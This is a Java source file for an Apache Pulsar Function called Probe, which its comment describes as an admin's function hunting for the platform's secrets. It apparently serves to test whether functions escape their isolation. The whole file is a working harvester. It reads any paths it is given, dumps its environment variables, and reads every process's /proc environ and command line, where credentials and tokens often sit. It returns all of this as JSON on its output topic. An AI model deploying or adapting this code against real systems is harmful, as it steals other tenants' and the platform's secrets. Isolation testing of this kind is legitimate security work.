package probe;

import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.pulsar.functions.api.Context;
import org.apache.pulsar.functions.api.Function;

/** The Java twin of probe.py: a force admin's function looking for the platform's secrets. Input:
 * paths, one per line; output: JSON of its environment, what it read of them, and of /proc. */
public class Probe implements Function<byte[], byte[]> {
    private static String read(Path p) {
        try {
            byte[] b = Files.readAllBytes(p);
            int n = Math.min(b.length, 4096);
            return new String(b, 0, n, StandardCharsets.ISO_8859_1);
        } catch (IOException | RuntimeException e) {
            return "<" + e.getClass().getSimpleName() + ">";
        }
    }

    private static void str(StringBuilder out, String s) {
        out.append('"');
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') out.append('\\').append(c);
            else if (c < 0x20 || c > 0x7e) out.append(String.format("\\u%04x", (int) c));
            else out.append(c);
        }
        out.append('"');
    }

    private static void object(StringBuilder out, Map<String, String> m) {
        out.append('{');
        boolean first = true;
        for (Map.Entry<String, String> e : m.entrySet()) {
            if (!first) out.append(',');
            first = false;
            str(out, e.getKey());
            out.append(':');
            str(out, e.getValue());
        }
        out.append('}');
    }

    @Override
    public byte[] process(byte[] raw, Context context) {  // bytes: no schema on the force's topics
        String input = new String(raw, StandardCharsets.UTF_8);
        Map<String, String> files = new java.util.TreeMap<>();
        for (String root : input.split("\n")) {
            if (root.isEmpty()) continue;
            Path p = Path.of(root);
            List<Path> candidates = new ArrayList<>();
            if (Files.isDirectory(p)) {
                try (Stream<Path> walk = Files.walk(p)) {
                    walk.filter(Files::isRegularFile).limit(300).forEach(candidates::add);
                } catch (IOException | RuntimeException e) {
                    files.put(root, "<" + e.getClass().getSimpleName() + ">");
                }
            } else {
                candidates.add(p);
            }
            for (Path f : candidates) files.put(f.toString(), read(f));
        }
        Map<String, String> procs = new java.util.TreeMap<>();
        File[] entries = new File("/proc").listFiles();
        if (entries != null) {
            for (File e : entries) {
                if (e.getName().chars().allMatch(Character::isDigit)) {
                    procs.put(e.getName(), read(e.toPath().resolve("environ")) + read(e.toPath().resolve("cmdline")));
                }
            }
        }
        StringBuilder out = new StringBuilder("{\"env\":");
        object(out, System.getenv());
        out.append(",\"files\":");
        object(out, files);
        out.append(",\"procs\":");
        object(out, procs);
        out.append(",\"pid\":").append(ProcessHandle.current().pid()).append('}');
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }
}
